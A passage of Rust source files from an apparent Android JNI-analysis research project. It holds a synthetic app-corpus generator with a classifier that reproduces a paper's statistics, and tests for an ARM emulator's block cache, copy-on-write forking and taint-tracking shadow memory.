    rng.shuffle(&mut records);
    records
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::JniType;

    fn small() -> CorpusConfig {
        CorpusConfig {
            total: 10_000,
            type1: 1_646,
            type2: 76,
            type2_loadable: 17,
            type3: 16,
            type1_without_libs: 177,
            admob_fraction: 0.481,
            seed: 7,
        }
    }

    #[test]
    fn counts_are_exact() {
        let cfg = small();
        let records = generate(&cfg);
        assert_eq!(records.len(), cfg.total as usize);
        let t1 = records.iter().filter(|r| r.jni_type() == JniType::TypeI).count();
        let t2 = records.iter().filter(|r| r.jni_type() == JniType::TypeII).count();
        let t3 = records
            .iter()
            .filter(|r| r.jni_type() == JniType::TypeIII)
            .count();
        assert_eq!(t1 as u32, cfg.type1);
        assert_eq!(t2 as u32, cfg.type2);
        assert_eq!(t3 as u32, cfg.type3);
    }

    #[test]
    fn deterministic_given_seed() {
        let cfg = small();
        let a = generate(&cfg);
        let b = generate(&cfg);
        assert_eq!(a.len(), b.len());
        assert!(a
            .iter()
            .zip(b.iter())
            .all(|(x, y)| x.id == y.id && x.category == y.category));
    }

    #[test]
    fn largest_remainder_sums_exactly() {
        for total in [100u32, 1_646, 37_506] {
            let counts = exact_counts(total, &TYPE1_CATEGORY_WEIGHTS);
            let sum: u32 = counts.iter().map(|(_, n)| n).sum();
            assert_eq!(sum, total);
            let game = counts
                .iter()
                .find(|(c, _)| *c == Category::Game)
                .unwrap()
                .1;
            let frac = game as f64 / total as f64;
            assert!((frac - 0.42).abs() < 0.01, "game fraction {frac}");
        }
    }

    /// FNV-1a over every field of every record, in order — a
    /// bit-reproducibility fingerprint for the generator.
    fn fingerprint(records: &[AppRecord]) -> u64 {
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        let mut eat = |bytes: &[u8]| {
            for b in bytes {
                h ^= *b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01B3);
            }
        };
        for r in records {
            eat(&r.id.to_le_bytes());
            eat(format!("{:?}", r.category).as_bytes());
            eat(&[
                r.calls_load_library as u8,
                r.has_loader_dex as u8,
                r.pure_native as u8,
            ]);
            for lib in &r.native_libs {
                eat(lib.as_bytes());
            }
            for class in &r.native_decl_classes {
                eat(class.as_bytes());
            }
        }
        h
    }

    /// Golden test: the **default** config (seed pinned to 0xD514)
    /// must keep reproducing the paper's §III aggregates — 227,911
    /// total, 37,506 Type-I, 1,738 Type-II, 16 Type-III — and the
    /// exact byte-level corpus, so refactors can't silently change
    /// what every downstream experiment consumes.
    #[test]
    fn default_corpus_matches_paper_aggregates_and_is_bit_stable() {
        let cfg = CorpusConfig::default();
        assert_eq!(cfg.seed, 0xD514, "default seed is pinned (DSN'14)");
        let records = generate(&cfg);
        let stats = crate::classify(&records);
        assert_eq!(stats.total, 227_911);
        assert_eq!(stats.type1, 37_506);
        assert_eq!(stats.type2, 1_738);
        assert_eq!(stats.type2_loadable, 394);
        assert_eq!(stats.type3, 16);
        assert_eq!(stats.type1_without_libs, 4_034);
        assert_eq!(stats.type3_split, (11, 5));
        assert_eq!(
            fingerprint(&records),
            GOLDEN_FINGERPRINT,
            "default-seed corpus changed bit-for-bit; if intentional, \
             re-pin GOLDEN_FINGERPRINT"
        );
    }

    /// Pinned by running the generator once at the time the testkit
    /// PRNG (Pcg32 seeded via SplitMix64) became the corpus RNG.
    const GOLDEN_FINGERPRINT: u64 = 0x5536_9E91_8B29_559C;

    #[test]
    fn type3_is_games_and_entertainment() {
        let records = generate(&small());
        let t3: Vec<_> = records
            .iter()
            .filter(|r| r.jni_type() == JniType::TypeIII)
            .collect();
        let games = t3.iter().filter(|r| r.category == Category::Game).count();
        let ent = t3
            .iter()
            .filter(|r| r.category == Category::Entertainment)
            .count();
        assert_eq!(games, 11);
        assert_eq!(ent, 5);
    }
}
