//! Raw per-app records, as a market crawler would extract from APKs.

/// Google Play top-level categories (the subset Fig. 2 charts).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Category {
    /// Games (42% of Type-I apps — engines are native C/C++).
    Game,
    /// Tools.
    Tools,
    /// Entertainment.
    Entertainment,
    /// Music and audio (reuses existing native codecs).
    MusicAndAudio,
    /// Communication (native code hides protocols / encrypts).
    Communication,
    /// Personalization.
    Personalization,
    /// Casual games.
    Casual,
    /// Puzzles.
    Puzzle,
    /// Racing games.
    Racing,
    /// Sports.
    Sports,
    /// Productivity.
    Productivity,
    /// Photography.
    Photography,
    /// Lifestyle.
    Lifestyle,
    /// Arcade.
    Arcade,
    /// Travel and local.
    TravelAndLocal,
    /// Social.
    Social,
    /// Media and video.
    MediaAndVideo,
    /// News and magazines.
    NewsAndMagazines,
    /// Education.
    Education,
    /// Everything else.
    Other,
}

impl Category {
    /// All categories, in Fig. 2 display order.
    pub const ALL: [Category; 20] = [
        Category::Game,
        Category::Tools,
        Category::Entertainment,
        Category::MusicAndAudio,
        Category::Communication,
        Category::Personalization,
        Category::Casual,
        Category::Puzzle,
        Category::Racing,
        Category::Sports,
        Category::Productivity,
        Category::Photography,
        Category::Lifestyle,
        Category::Arcade,
        Category::TravelAndLocal,
        Category::Social,
        Category::MediaAndVideo,
        Category::NewsAndMagazines,
        Category::Education,
        Category::Other,
    ];

    /// Display name.
    pub fn name(self) -> &'static str {
        match self {
            Category::Game => "Game",
            Category::Tools => "Tools",
            Category::Entertainment => "Entertainment",
            Category::MusicAndAudio => "Music And Audio",
            Category::Communication => "Communication",
            Category::Personalization => "Personalization",
            Category::Casual => "Casual",
            Category::Puzzle => "Puzzle",
            Category::Racing => "Racing",
            Category::Sports => "Sports",
            Category::Productivity => "Productivity",
            Category::Photography => "Photography",
            Category::Lifestyle => "Lifestyle",
            Category::Arcade => "Arcade",
            Category::TravelAndLocal => "Travel And Local",
            Category::Social => "Social",
            Category::MediaAndVideo => "Media And Video",
            Category::NewsAndMagazines => "News And Magazines",
            Category::Education => "Education",
            Category::Other => "Other",
        }
    }
}

/// The three JNI-usage types of §III.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum JniType {
    /// Invokes `System.load()`/`System.loadLibrary()`.
    TypeI,
    /// Ships native libraries without any load invocation.
    TypeII,
    /// Written in pure native code.
    TypeIII,
    /// No JNI involvement.
    None,
}

/// What a crawler extracts from one APK.
#[derive(Debug, Clone)]
pub struct AppRecord {
    /// Market id.
    pub id: u32,
    /// Store category.
    pub category: Category,
    /// Whether dex code calls `System.load()`/`System.loadLibrary()`.
    pub calls_load_library: bool,
    /// Bundled `.so` names.
    pub native_libs: Vec<&'static str>,
    /// Whether the app carries an additional compressed dex file that
    /// itself contains load invocations (the Type-II "capability to
    /// load native libraries").
    pub has_loader_dex: bool,
    /// A `NativeActivity`-style app with no dex entry points.
    pub pure_native: bool,
    /// Java classes declaring `native` methods.
    pub native_decl_classes: Vec<&'static str>,
}

impl AppRecord {
    /// Classifies this record per §III.
    pub fn jni_type(&self) -> JniType {
        if self.pure_native {
            JniType::TypeIII
        } else if self.calls_load_library {
            JniType::TypeI
        } else if !self.native_libs.is_empty() {
            JniType::TypeII
        } else {
            JniType::None
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record() -> AppRecord {
        AppRecord {
            id: 1,
            category: Category::Game,
            calls_load_library: false,
            native_libs: vec![],
            has_loader_dex: false,
            pure_native: false,
            native_decl_classes: vec![],
        }
    }

    #[test]
    fn classification_rules() {
        let mut r = record();
        assert_eq!(r.jni_type(), JniType::None);
        r.calls_load_library = true;
        assert_eq!(r.jni_type(), JniType::TypeI);
        r.calls_load_library = false;
        r.native_libs = vec!["libunity.so"];
        assert_eq!(r.jni_type(), JniType::TypeII);
        r.pure_native = true;
        assert_eq!(r.jni_type(), JniType::TypeIII, "pure native wins");
    }

    #[test]
    fn type1_may_lack_libraries() {
        // §III-A: 4,034 Type-I apps do not contain native libraries.
        let mut r = record();
        r.calls_load_library = true;
        r.native_libs = vec![];
        assert_eq!(r.jni_type(), JniType::TypeI);
    }

    #[test]
    fn categories_have_names() {
        for c in Category::ALL {
            assert!(!c.name().is_empty());
        }
        assert_eq!(Category::ALL.len(), 20);
    }
}
