//! The §III analysis pipeline: derives every published number from the
//! raw per-app records.

use crate::record::{AppRecord, Category, JniType};
use std::collections::HashMap;

/// Everything §III reports.
#[derive(Debug, Clone)]
pub struct Section3Stats {
    /// Total apps examined.
    pub total: usize,
    /// Type-I apps (call `System.load*`).
    pub type1: usize,
    /// Type-II apps (ship libraries without load calls).
    pub type2: usize,
    /// Type-II apps equipped with a loader dex.
    pub type2_loadable: usize,
    /// Type-III (pure native) apps.
    pub type3: usize,
    /// Fraction of the corpus using native libraries (Type I).
    pub native_fraction: f64,
    /// Type-I apps shipping no native library.
    pub type1_without_libs: usize,
    /// Fraction of those lib-less apps using the AdMob plugin classes.
    pub admob_fraction: f64,
    /// Type-I category histogram: (category, count), descending.
    pub category_histogram: Vec<(Category, usize)>,
    /// Most-bundled native libraries: (name, apps bundling it),
    /// descending.
    pub top_libraries: Vec<(&'static str, usize)>,
    /// Type-III category split (games, entertainment).
    pub type3_split: (usize, usize),
}

/// Runs the full §III classification.
pub fn classify(records: &[AppRecord]) -> Section3Stats {
    let total = records.len();
    let mut type1 = 0;
    let mut type2 = 0;
    let mut type2_loadable = 0;
    let mut type3 = 0;
    let mut type1_without_libs = 0;
    let mut admob_users = 0;
    let mut categories: HashMap<Category, usize> = HashMap::new();
    let mut libraries: HashMap<&'static str, usize> = HashMap::new();
    let mut type3_games = 0;
    let mut type3_ent = 0;

    for r in records {
        match r.jni_type() {
            JniType::TypeI => {
                type1 += 1;
                *categories.entry(r.category).or_insert(0) += 1;
                if r.native_libs.is_empty() {
                    type1_without_libs += 1;
                    if r.native_decl_classes
                        .iter()
                        .any(|c| c.starts_with("Lcom/admob/"))
                    {
                        admob_users += 1;
                    }
                }
                for lib in &r.native_libs {
                    *libraries.entry(lib).or_insert(0) += 1;
                }
            }
            JniType::TypeII => {
                type2 += 1;
                if r.has_loader_dex {
                    type2_loadable += 1;
                }
                for lib in &r.native_libs {
                    *libraries.entry(lib).or_insert(0) += 1;
                }
            }
            JniType::TypeIII => {
                type3 += 1;
                match r.category {
                    Category::Game => type3_games += 1,
                    Category::Entertainment => type3_ent += 1,
                    _ => {}
                }
            }
            JniType::None => {}
        }
    }

    let mut category_histogram: Vec<(Category, usize)> = categories.into_iter().collect();
    category_histogram.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    let mut top_libraries: Vec<(&'static str, usize)> = libraries.into_iter().collect();
    top_libraries.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));

    Section3Stats {
        total,
        type1,
        type2,
        type2_loadable,
        type3,
        native_fraction: type1 as f64 / total.max(1) as f64,
        type1_without_libs,
        admob_fraction: admob_users as f64 / type1_without_libs.max(1) as f64,
        category_histogram,
        top_libraries,
        type3_split: (type3_games, type3_ent),
    }
}

impl Section3Stats {
    /// Renders the §III summary table.
    pub fn render(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("apps examined:              {}\n", self.total));
        out.push_str(&format!(
            "type I  (System.load*):     {} ({:.2}%)\n",
            self.type1,
            100.0 * self.native_fraction
        ));
        out.push_str(&format!(
            "type II (libs, no load):    {} ({} with loader dex)\n",
            self.type2, self.type2_loadable
        ));
        out.push_str(&format!(
            "type III (pure native):     {} ({} games, {} entertainment)\n",
            self.type3, self.type3_split.0, self.type3_split.1
        ));
        out.push_str(&format!(
            "type I without libraries:   {} ({:.1}% AdMob plugin)\n",
            self.type1_without_libs,
            100.0 * self.admob_fraction
        ));
        out.push_str("\nFig. 2 — Type I category distribution:\n");
        for (cat, n) in &self.category_histogram {
            out.push_str(&format!(
                "  {:<22} {:>7} ({:>4.1}%)\n",
                cat.name(),
                n,
                100.0 * *n as f64 / self.type1.max(1) as f64
            ));
        }
        out.push_str("\nTop native libraries:\n");
        for (lib, n) in self.top_libraries.iter().take(20) {
            out.push_str(&format!("  {lib:<28} {n:>7}\n"));
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::generator::{generate, CorpusConfig};

    #[test]
    fn full_corpus_reproduces_paper_numbers() {
        let cfg = CorpusConfig::default();
        let stats = classify(&generate(&cfg));
        assert_eq!(stats.total, 227_911);
        assert_eq!(stats.type1, 37_506);
        assert_eq!(stats.type2, 1_738);
        assert_eq!(stats.type2_loadable, 394);
        assert_eq!(stats.type3, 16);
        assert_eq!(stats.type1_without_libs, 4_034);
        assert!((stats.native_fraction - 0.1646).abs() < 0.0005, "16.46%");
        assert!((stats.admob_fraction - 0.481).abs() < 0.002, "48.1%");
        assert_eq!(stats.type3_split, (11, 5));
    }

    #[test]
    fn game_category_dominates_at_42_percent() {
        let stats = classify(&generate(&CorpusConfig::default()));
        let (top_cat, top_n) = stats.category_histogram[0];
        assert_eq!(top_cat, Category::Game);
        let frac = top_n as f64 / stats.type1 as f64;
        assert!((frac - 0.42).abs() < 0.001, "Fig. 2: Game = 42%, got {frac}");
    }

    #[test]
    fn game_engines_top_the_library_ranking() {
        let stats = classify(&generate(&CorpusConfig::default()));
        let top5: Vec<&str> = stats.top_libraries.iter().take(5).map(|(l, _)| *l).collect();
        assert!(
            top5.contains(&"libunity.so"),
            "Unity among the top libraries: {top5:?}"
        );
        // Every count is positive and descending.
        for w in stats.top_libraries.windows(2) {
            assert!(w[0].1 >= w[1].1);
        }
    }

    #[test]
    fn render_contains_key_figures() {
        let stats = classify(&generate(&CorpusConfig {
            total: 5000,
            type1: 823,
            type2: 38,
            type2_loadable: 9,
            type3: 16,
            type1_without_libs: 88,
            admob_fraction: 0.481,
            seed: 3,
        }));
        let s = stats.render();
        assert!(s.contains("type I"));
        assert!(s.contains("Game"));
        assert!(s.contains("Fig. 2"));
    }

    #[test]
    fn empty_corpus_does_not_divide_by_zero() {
        let stats = classify(&[]);
        assert_eq!(stats.total, 0);
        assert_eq!(stats.native_fraction, 0.0);
    }
}
