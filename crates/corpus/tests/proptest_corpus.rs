//! Property-based tests: the classifier must reproduce whatever
//! marginals the generator was configured with — for *any* consistent
//! configuration, not just the paper's.

use ndroid_corpus::{classify, generate, CorpusConfig};
use ndroid_testkit::prelude::*;

fn arb_config() -> impl Strategy<Value = CorpusConfig> {
    (
        2_000u32..20_000,
        1u32..2_000,
        0u32..200,
        0u32..40,
        any::<u64>(),
    )
        .prop_flat_map(|(total, type1, type2, type3, seed)| {
            let type1 = type1.min(total / 4);
            let type2 = type2.min(total / 8);
            let type3 = type3.min(16); // generator splits 11/5
            (
                Just(total),
                Just(type1),
                Just(type2),
                0..=type2,
                Just(type3),
                0..=type1,
                Just(seed),
            )
        })
        .prop_map(
            |(total, type1, type2, type2_loadable, type3, type1_without_libs, seed)| {
                CorpusConfig {
                    total,
                    type1,
                    type2,
                    type2_loadable,
                    type3,
                    type1_without_libs,
                    admob_fraction: 0.481,
                    seed,
                }
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    #[test]
    fn classifier_reproduces_any_configuration(config in arb_config()) {
        let records = generate(&config);
        prop_assert_eq!(records.len(), config.total as usize);
        let stats = classify(&records);
        prop_assert_eq!(stats.total as u32, config.total);
        prop_assert_eq!(stats.type1 as u32, config.type1);
        prop_assert_eq!(stats.type2 as u32, config.type2);
        prop_assert_eq!(stats.type2_loadable as u32, config.type2_loadable);
        prop_assert_eq!(stats.type3 as u32, config.type3);
        prop_assert_eq!(stats.type1_without_libs as u32, config.type1_without_libs);
        // Category histogram sums to the Type-I count.
        let cat_sum: usize = stats.category_histogram.iter().map(|(_, n)| n).sum();
        prop_assert_eq!(cat_sum as u32, config.type1);
        // Library counts never exceed the number of apps that could
        // bundle them.
        for (_, n) in &stats.top_libraries {
            prop_assert!(*n <= (config.type1 + config.type2 + config.type3) as usize);
        }
    }

    #[test]
    fn shuffling_does_not_change_stats(seed in any::<u64>()) {
        let config = CorpusConfig {
            total: 5_000,
            type1: 800,
            type2: 60,
            type2_loadable: 12,
            type3: 16,
            type1_without_libs: 90,
            admob_fraction: 0.481,
            seed,
        };
        let stats = classify(&generate(&config));
        prop_assert_eq!(stats.type1, 800);
        prop_assert_eq!(stats.type3_split, (11, 5));
    }
}
