//! End-to-end superblock behavior through the emulator run loop:
//! cached blocks serve hot loops as single dispatches, self-patching
//! code rebuilds blocks from fresh bytes, and — the pinned budget
//! contract — `EmuError::Timeout` fires at the *identical* retired
//! instruction count with blocks on and off, including when the budget
//! runs dry mid-block.

use ndroid_arm::block::BlockCache;
use ndroid_arm::icache::DecodeCache;
use ndroid_arm::{Assembler, Cond, Cpu, Memory, Reg};
use ndroid_dvm::{Dvm, Program};
use ndroid_emu::kernel::Kernel;
use ndroid_emu::layout;
use ndroid_emu::runtime::{call_guest, HostTable, NativeCtx, VanillaAnalysis};
use ndroid_emu::shadow::ShadowState;
use ndroid_emu::trace::TraceLog;
use ndroid_emu::EmuError;

struct World {
    cpu: Cpu,
    mem: Memory,
    dvm: Dvm,
    shadow: ShadowState,
    kernel: Kernel,
    trace: TraceLog,
    budget: u64,
    icache: DecodeCache,
    blocks: BlockCache,
}

impl World {
    fn new(blocks_on: bool) -> World {
        let mut cpu = Cpu::new();
        cpu.regs[13] = layout::NATIVE_STACK_TOP;
        let mut blocks = BlockCache::new();
        blocks.enabled = blocks_on;
        World {
            cpu,
            mem: Memory::new(),
            dvm: Dvm::new(Program::new()),
            shadow: ShadowState::new(),
            kernel: Kernel::new(),
            trace: TraceLog::new(),
            budget: 1_000_000,
            icache: DecodeCache::new(),
            blocks,
        }
    }

    fn call(&mut self, entry: u32) -> Result<u32, EmuError> {
        let mut analysis = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = NativeCtx {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            dvm: &mut self.dvm,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: &mut analysis,
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
        };
        call_guest(&mut ctx, &table, entry, &[], |_, _| {}).map(|(r0, _)| r0)
    }
}

/// A 25-iteration counted loop: 2 setup instructions, then 3 per
/// iteration (add / subs / bne), then `bx lr` — 78 instructions total.
fn loop_code(w: &mut World) -> u32 {
    let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
    asm.mov_imm(Reg::R4, 25).unwrap();
    asm.mov_imm(Reg::R0, 0).unwrap();
    let top = asm.here_label();
    asm.add_imm(Reg::R0, Reg::R0, 2).unwrap();
    asm.subs_imm(Reg::R4, Reg::R4, 1).unwrap();
    asm.b_cond(Cond::Ne, top);
    asm.bx(Reg::LR);
    let code = asm.assemble().unwrap();
    w.mem.write_bytes(code.base, &code.bytes);
    code.base
}

#[test]
fn hot_loop_served_from_the_block_cache() {
    let mut w = World::new(true);
    let entry = loop_code(&mut w);
    assert_eq!(w.call(entry).unwrap(), 50);
    assert!(w.blocks.built > 0, "the loop body was compiled");
    assert!(w.blocks.hits > 0, "and re-dispatched from the cache");
    let hits_first = w.blocks.hits;
    assert_eq!(w.call(entry).unwrap(), 50);
    assert!(
        w.blocks.hits > hits_first,
        "second call reuses blocks from the first (shared session cache)"
    );
}

#[test]
fn host_write_to_code_page_rebuilds_blocks() {
    let base = layout::NATIVE_CODE_BASE;
    let mut asm = Assembler::new(base);
    asm.mov_imm(Reg::R0, 1).unwrap();
    asm.bx(Reg::LR);
    let code = asm.assemble().unwrap();

    let mut w = World::new(true);
    w.mem.write_bytes(base, &code.bytes);
    assert_eq!(w.call(base).unwrap(), 1);

    // Patch the first instruction to `mov r0, #3` from the host side.
    let mut asm2 = Assembler::new(base);
    asm2.mov_imm(Reg::R0, 3).unwrap();
    let word = u32::from_le_bytes(asm2.assemble().unwrap().bytes[..4].try_into().unwrap());
    w.mem.write_u32(base, word);

    assert_eq!(w.call(base).unwrap(), 3, "block rebuilt from patched bytes");
    assert!(w.blocks.invalidations > 0);
}

/// The per-instruction budget contract, pinned: for every budget value
/// from 0 through "enough to finish", blocks-on and blocks-off agree
/// exactly on whether the run times out and on how many instructions
/// retired (`cpu.insn_count`). Budgets that land mid-block (the loop
/// body is a 3-instruction block entered dozens of times) are the
/// interesting cases — a block-granular budget would overshoot there.
#[test]
fn timeout_fires_at_identical_retired_count_with_blocks_on_and_off() {
    // 78 instructions end the program; probe every budget through 80.
    for budget in 0u64..=80 {
        let mut outcomes = Vec::new();
        for blocks_on in [true, false] {
            let mut w = World::new(blocks_on);
            let entry = loop_code(&mut w);
            w.budget = budget;
            let result = w.call(entry);
            let timed_out = match result {
                Ok(r0) => {
                    assert_eq!(r0, 50);
                    false
                }
                Err(EmuError::Timeout { .. }) => true,
                Err(other) => panic!("unexpected error at budget {budget}: {other}"),
            };
            outcomes.push((timed_out, w.cpu.insn_count, w.budget));
        }
        assert_eq!(
            outcomes[0], outcomes[1],
            "blocks on/off diverge at budget {budget}: (timed_out, retired, budget_left)"
        );
        // The budget is charged per retired instruction, never per block.
        assert_eq!(
            outcomes[0].1,
            budget.min(78),
            "retired count equals the budget until the program completes"
        );
    }
}

/// Self-modifying code where the *same block* stores into its own code
/// page: execution must abandon the block's stale tail and honor the
/// patched bytes, identically with blocks on and off.
#[test]
fn mid_block_self_patch_is_honored() {
    let base = layout::NATIVE_CODE_BASE;
    let mut results = Vec::new();
    for blocks_on in [true, false] {
        // One straight-line block that patches its own tail:
        //   mov r0, #1
        //   ldr r2, =base+16         (the address of the mov below)
        //   ldr r1, =0xE3A00009      (encoding of `mov r0, #9`)
        //   str r1, [r2]             (overwrite the next instruction)
        //   mov r0, #5               (pre-patch bytes; must NOT run)
        //   bx lr
        let mut asm = Assembler::new(base);
        asm.mov_imm(Reg::R0, 1).unwrap();
        asm.ldr_const(Reg::R2, base + 16);
        asm.ldr_const(Reg::R1, 0xE3A0_0009);
        asm.str(Reg::R1, Reg::R2, 0);
        assert_eq!(asm.here(), base + 16, "patch target is the next word");
        asm.mov_imm(Reg::R0, 5).unwrap();
        asm.bx(Reg::LR);
        let code = asm.assemble().unwrap();

        let mut w = World::new(blocks_on);
        w.mem.write_bytes(code.base, &code.bytes);
        let r0 = w.call(code.base).unwrap();
        assert_eq!(
            r0, 9,
            "blocks_on={blocks_on}: the store's patched bytes must execute"
        );
        results.push((r0, w.cpu.insn_count));
    }
    assert_eq!(results[0], results[1], "identical retired counts");
}
