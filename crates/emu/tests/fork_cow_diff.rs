//! Differential property suite for copy-on-write forking: under
//! random interleavings of guest-memory writes, shadow taint
//! operations and fork points,
//!
//! 1. a fork taken mid-sequence is observationally identical to a
//!    fresh pair replaying the same op prefix (fork == fresh), and
//! 2. mutating either side after the fork never changes what the
//!    other side observes (bidirectional isolation).
//!
//! Failures replay with `TESTKIT_SEED`.

use ndroid_arm::Memory;
use ndroid_dvm::Taint;
use ndroid_emu::shadow::TaintMap;
use ndroid_testkit::prelude::*;

/// One randomized mutation over the (memory, taint-shadow) pair.
type Op = (u8, u32, u32, u32);

fn apply(mem: &mut Memory, taint: &mut TaintMap, op: &Op) {
    let (sel, addr, len, bits) = *op;
    let t = Taint(bits & 0x00FF_FFFF);
    match sel % 8 {
        0 => mem.write_u8(addr, bits as u8),
        // Unaligned u16/u32 stores routinely straddle page seams.
        1 => mem.write_u16(addr, bits as u16),
        2 => mem.write_u32(addr, bits),
        3 => {
            let chunk = vec![(bits >> 8) as u8; (len % 97 + 1) as usize];
            mem.write_bytes(addr, &chunk);
        }
        4 => taint.set(addr, t),
        5 => taint.set_range(addr, len % 0x1100, t),
        6 => taint.add_range(addr, len % 0x1100, t),
        _ => taint.clear_range(addr, len % 0x1100),
    }
}

/// Everything we treat as observable about a pair: bytes and taint
/// unions probed around every address the op sequence can touch, plus
/// the exact tainted-entry list.
fn observe(mem: &Memory, taint: &TaintMap, ops: &[Op]) -> (Vec<u32>, Vec<(u32, Taint)>) {
    let mut probes = Vec::new();
    for &(_, addr, len, _) in ops {
        for delta in [0, 4, len % 0x1100, (len % 0x1100).wrapping_add(4)] {
            let p = addr.wrapping_add(delta);
            probes.push(mem.read_u32(p));
            probes.push(taint.range_taint(p, 8).0);
        }
    }
    (probes, taint.tainted_entries())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn fork_equals_fresh_replay_and_isolates_both_sides(
        ops in collection::vec(
            (any::<u8>(), 0u32..0x4000, 0u32..0x1200, any::<u32>()),
            1..40,
        ),
        fork_frac in 0u8..=100,
        tail_skew in 1u32..0x2000,
    ) {
        let fork_at = ops.len() * fork_frac as usize / 100;

        // Drive the original pair, forking mid-sequence.
        let mut mem = Memory::new();
        let mut taint = TaintMap::new();
        for op in &ops[..fork_at] {
            apply(&mut mem, &mut taint, op);
        }
        let mut fmem = mem.fork();
        let mut ftaint = taint.clone();
        for op in &ops[fork_at..] {
            apply(&mut mem, &mut taint, op);
        }

        // (1) Fork == fresh: a brand-new pair replaying the prefix is
        // observationally identical to the fork, even though the
        // original has since diverged through the shared pages.
        let mut rmem = Memory::new();
        let mut rtaint = TaintMap::new();
        for op in &ops[..fork_at] {
            apply(&mut rmem, &mut rtaint, op);
        }
        prop_assert_eq!(
            observe(&fmem, &ftaint, &ops),
            observe(&rmem, &rtaint, &ops),
            "fork diverged from a fresh replay of its prefix"
        );

        // (2) Isolation: run a *skewed* tail on the fork; the
        // original's observations must not move at all.
        let before = observe(&mem, &taint, &ops);
        for &(sel, addr, len, bits) in &ops[fork_at..] {
            apply(&mut fmem, &mut ftaint, &(sel, addr.wrapping_add(tail_skew), len, !bits));
        }
        prop_assert_eq!(
            observe(&mem, &taint, &ops),
            before,
            "fork-side writes bled into the original"
        );

        // And the fork still matches a fresh replay of prefix+skewed
        // tail (isolation holds in the other direction too).
        for &(sel, addr, len, bits) in &ops[fork_at..] {
            apply(&mut rmem, &mut rtaint, &(sel, addr.wrapping_add(tail_skew), len, !bits));
        }
        prop_assert_eq!(
            observe(&fmem, &ftaint, &ops),
            observe(&rmem, &rtaint, &ops),
            "original-side writes bled into the fork"
        );
    }
}
