//! Differential property test: the paged two-level [`TaintMap`] must
//! be observationally identical to the pre-paging sparse-HashMap
//! reference model ([`HashTaintMap`]) under random operation
//! sequences — set/add (byte and range), clear, overlapping copies,
//! and address-space wraparound. Failures replay with `TESTKIT_SEED`.

use ndroid_dvm::Taint;
use ndroid_emu::shadow::{HashTaintMap, TaintMap};
use ndroid_testkit::prelude::*;

/// One randomized shadow-memory operation. `sel` picks the opcode,
/// `addr`/`addr2` are base addresses (occasionally relocated near
/// `u32::MAX` to exercise wraparound), `len` spans up to just over a
/// page so chunking across page boundaries is routinely hit.
type Op = (u8, u32, u32, u32, u32);

fn addr_of(raw: u32, bits: u32) -> u32 {
    // Top bit of the label word relocates the range to the top of the
    // address space so ranges wrap through 0.
    if bits & 0x8000_0000 != 0 {
        raw.wrapping_add(0xFFFF_FF00)
    } else {
        raw
    }
}

fn apply(real: &mut TaintMap, model: &mut HashTaintMap, op: &Op) {
    let (sel, raw_a, raw_b, len, bits) = *op;
    let a = addr_of(raw_a, bits);
    let b = addr_of(raw_b, bits.rotate_left(1));
    let t = Taint(bits & 0x00FF_FFFF);
    match sel % 7 {
        0 => {
            real.set(a, t);
            model.set(a, t);
        }
        1 => {
            real.add(a, t);
            model.add(a, t);
        }
        2 => {
            real.set_range(a, len, t);
            model.set_range(a, len, t);
        }
        3 => {
            real.add_range(a, len, t);
            model.add_range(a, len, t);
        }
        4 => {
            real.clear_range(a, len);
            model.clear_range(a, len);
        }
        _ => {
            // Two selectors land here so overlapping copies (the
            // trickiest path) get extra weight.
            real.copy_range(b, a, len);
            model.copy_range(b, a, len);
        }
    }
}

proptest! {
    /// Byte-exact agreement on every touched byte (plus the bytes just
    /// outside each touched range), on the global tainted-byte count,
    /// and on range unions over every touched window.
    #[test]
    fn paged_map_matches_hashmap_reference(
        ops in collection::vec(
            (0u8..8, 0u32..0x4000, 0u32..0x4000, 0u32..0x1100, any::<u32>()),
            0..48,
        )
    ) {
        let mut real = TaintMap::new();
        let mut model = HashTaintMap::new();
        for op in &ops {
            apply(&mut real, &mut model, op);
            prop_assert_eq!(
                real.tainted_bytes(),
                model.tainted_bytes(),
                "tainted_bytes diverged after {:?}", op
            );
        }
        // Probe every byte either map could have touched.
        for op in &ops {
            let (_, raw_a, raw_b, len, bits) = *op;
            for base in [addr_of(raw_a, bits), addr_of(raw_b, bits.rotate_left(1))] {
                let start = base.wrapping_sub(2);
                let span = len + 4;
                let mut i = 0u32;
                while i < span {
                    let p = start.wrapping_add(i);
                    prop_assert_eq!(real.get(p), model.get(p), "byte {:#x}", p);
                    // Stride through the interior of big ranges; check
                    // every byte near the edges.
                    i += if i < 8 || i + 8 >= span { 1 } else { 7 };
                }
                prop_assert_eq!(
                    real.range_taint(start, span),
                    model.range_taint(start, span),
                    "range union at {:#x}+{}", start, span
                );
            }
        }
    }

    /// Overlapping same-direction copies agree with the collect-first
    /// reference regardless of direction and page skew.
    #[test]
    fn overlapping_copies_match_reference(
        base in 0u32..0x3000,
        skew in 0i32..64,
        len in 1u32..0x180,
        seed_bits in any::<u32>(),
    ) {
        let mut real = TaintMap::new();
        let mut model = HashTaintMap::new();
        // Seed a deterministic speckled pattern around the source.
        for i in 0..len {
            if (seed_bits.wrapping_mul(i.wrapping_add(7))) % 3 == 0 {
                let t = Taint(1 << (i % 24));
                real.set(base.wrapping_add(i), t);
                model.set(base.wrapping_add(i), t);
            }
        }
        let dst = if skew % 2 == 0 {
            base.wrapping_add((skew / 2) as u32)
        } else {
            base.wrapping_sub((skew / 2) as u32)
        };
        real.copy_range(dst, base, len);
        model.copy_range(dst, base, len);
